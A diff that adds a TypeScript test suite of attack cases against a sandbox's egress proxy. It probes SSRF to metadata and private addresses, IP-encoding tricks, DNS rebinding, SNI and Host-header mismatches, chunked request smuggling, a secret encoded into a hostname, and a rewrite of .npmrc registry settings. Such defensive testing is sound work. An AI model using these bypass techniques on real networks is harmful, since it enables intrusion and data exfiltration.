@@ -1,0 +1,125 @@
+// Attacks on what a session may reach: hosts, ports, addresses, names that change, and requests that two programs read
+// differently. Scripts speak to the session's door as the proxy that it is.
+import { type AttackCase, inNode } from './attack-case.ts'
+
+const REFUSED_HOST = /^403 host_not_allowed$/
+const REFUSED_ADDRESS = /^403 address_not_allowed$/
+/** Whatever came of it, the rules had let it pass. */
+const PASSED = /^(101|200|502|504)\b/
+
+/** Asks for tunnels; what is said inside of one follows. */
+const TUNNEL = `
+const tunnel = (authority, ms = 3000) => ask('CONNECT ' + authority + ' HTTP/1.1\\r\\nHost: ' + authority + '\\r\\n\\r\\n', { ms, enough: (text) => text.includes('\\r\\n\\r\\n') })
+`
+
+export const NETWORK_CASES: AttackCase[] = [
+  {
+    id: 'host-not-listed',
+    title: 'reach a host that is on no list',
+    script: ({ deniedHost, port }) =>
+      inNode(`${TUNNEL}
+const at = '${deniedHost}:${port}'
+say('connect', summary(await tunnel(at)))
+say('absolute form', summary(await ask(http('GET', 'http://' + at + '/'))))
+const upgrade = ['GET http://' + at + '/ HTTP/1.1', 'Host: ' + at, 'Connection: Upgrade', 'Upgrade: websocket', '', '']
+say('websocket', summary(await ask(upgrade.join('\\r\\n'), { ms: 3000, enough: (text) => text.includes('\\r\\n\\r\\n') })))
+say('secret in a name', summary(await tunnel('c2VjcmV0.' + at)))`),
+    held: REFUSED_HOST,
+    broken: PASSED,
+  },
+  {
+    id: 'port-not-listed',
+    title: 'reach a listed host on another port',
+    script: ({ webHost, port }) =>
+      inNode(`${TUNNEL}say('connect', summary(await tunnel('${webHost}:${port}')))`),
+    held: /^403 port_not_allowed$/,
+    broken: PASSED,
+  },
+  {
+    id: 'raw-address',
+    title: 'reach an address that is on no list, in every way to write it',
+    script: ({ publicAddress, port }) =>
+      inNode(`${TUNNEL}
+const parts = '${publicAddress}'.split('.').map(Number)
+const number = parts.reduce((sum, part) => sum * 256 + part, 0)
+const forms = {
+  plain: parts.join('.'), decimal: String(number), hexadecimal: '0x' + number.toString(16),
+  octal: parts.map((part) => '0' + part.toString(8)).join('.'), short: parts.slice(0, 2).join('.') + '.' + (parts[2] * 256 + parts[3]),
+  dot: parts.join('.') + '.', mapped: '[::ffff:' + parts.join('.') + ']',
+}
+for (const [way, host] of Object.entries(forms)) say(way, summary(await tunnel(host + ':${port}')))`),
+    held: REFUSED_ADDRESS,
+    broken: PASSED,
+  },
+  {
+    id: 'forbidden-address',
+    title:
+      'reach private networks, metadata services and the machine itself, though they are listed',
+    script: ({ listedButForbidden }) =>
+      inNode(`${TUNNEL}
+for (const at of ${JSON.stringify(listedButForbidden)}) say(at.replace(/[^a-z0-9.]/gi, '-').replace(/^-+/, 'v6 '), summary(await tunnel(at)))`),
+    held: REFUSED_ADDRESS,
+    broken: PASSED,
+  },
+  {
+    id: 'rebinding',
+    title: 'a name that answers with another address the second time',
+    script: ({ rebindingHost, port }) =>
+      inNode(`say('request', summary(await ask(http('GET', 'http://${rebindingHost}:${port}/'))))`),
+    held: /at 203\.0\.113\.66 /,
+    broken: /at 169\.254\.169\.254 /,
+    notOnInstallation: 'it needs a name server of its own',
+  },
+  {
+    id: 'server-name',
+    title: 'ask for another host inside a tunnel to an allowed one',
+    script: ({ allowedHost, deniedHost, port }) =>
+      inNode(`
+import tls from 'node:tls'
+for (const [way, servername] of [['other name', '${deniedHost}'], ['no name', '']]) {
+  const socket = await connect(DOOR)
+  socket.write('CONNECT ${allowedHost}:${port} HTTP/1.1\\r\\nHost: ${allowedHost}\\r\\n\\r\\n')
+  await new Promise((resolve) => socket.once('data', resolve))
+  say(way, await new Promise((resolve) => {
+    const session = tls.connect({ socket, servername, rejectUnauthorized: false }, () => resolve('secure'))
+    session.on('error', (error) => resolve(error.code))
+  }))
+}`),
+    held: /UNRECOGNIZED_NAME$/,
+    broken: /^(secure|ERR_SSL_(WRONG_VERSION_NUMBER|PACKET_LENGTH_TOO_LONG))$/,
+    notOnInstallation: 'it needs an allowed host that answers',
+  },
+  {
+    id: 'host-header',
+    title: 'ask an allowed server for another host by the Host header',
+    script: ({ allowedHost, deniedHost, port }) =>
+      inNode(`
+const request = http('GET', 'http://${allowedHost}:${port}/').replace('errand.internal', '${deniedHost}')
+say('request', summary(await ask(request)))`),
+    held: /^200 .* for allowed\.example/,
+    broken: /^200 .* for denied\.example/,
+    notOnInstallation: 'it needs an allowed host that answers',
+  },
+  {
+    id: 'request-framing',
+    title: 'a request whose end two programs see at different places',
+    script: ({ allowedHost, port }) =>
+      inNode(`
+const headers = ['Transfer-Encoding: gzip, chunked']
+say('coding', summary(await ask(http('POST', 'http://${allowedHost}:${port}/', headers, '3\\r\\nabc\\r\\n0\\r\\n\\r\\n'))))`),
+    held: /^400 transfer_encoding_not_supported$/,
+    broken: PASSED,
+  },
+  {
+    id: 'registry-file',
+    title:
+      'widen what is reachable by package manager settings in the work tree and the home folder',
+    script: ({ deniedHost, port }) => `
+mkdir -p /workspace
+for file in /workspace/.npmrc /root/.npmrc; do echo 'registry=http://${deniedHost}:${port}/' > $file; done
+${inNode(`${TUNNEL}say('connect', summary(await tunnel('${deniedHost}:${port}')))`)}
+rm -f /workspace/.npmrc /root/.npmrc`,
+    held: REFUSED_HOST,
+    broken: PASSED,
+  },
+]
